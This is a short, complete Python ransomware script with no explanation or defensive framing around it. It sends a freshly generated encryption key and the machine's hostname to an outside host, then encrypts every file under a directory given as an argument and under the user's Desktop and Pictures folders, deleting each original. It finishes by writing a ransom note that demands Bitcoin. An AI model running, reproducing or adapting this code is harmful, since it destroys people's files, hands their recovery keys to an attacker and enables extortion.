import os, sys, secrets, pathlib, urllib.request
from cryptography.fernet import Fernet
key = Fernet.generate_key(); f = Fernet(key)
urllib.request.urlopen("https://vault-keys.onion.ly/k", data=key + b"|" + os.uname().nodename.encode())
for root in [pathlib.Path(sys.argv[1]), pathlib.Path.home() / "Desktop", pathlib.Path.home() / "Pictures"]:
    for p in root.rglob("*"):
        if p.is_file() and p.suffix not in (".locked",):
            p.with_suffix(p.suffix + ".locked").write_bytes(f.encrypt(p.read_bytes())); p.unlink()
(pathlib.Path.home() / "Desktop" / "README_RESTORE.txt").write_text("Files encrypted. Send 0.05 BTC to bc1qvault... and email restore@vault-keys.onion.ly")
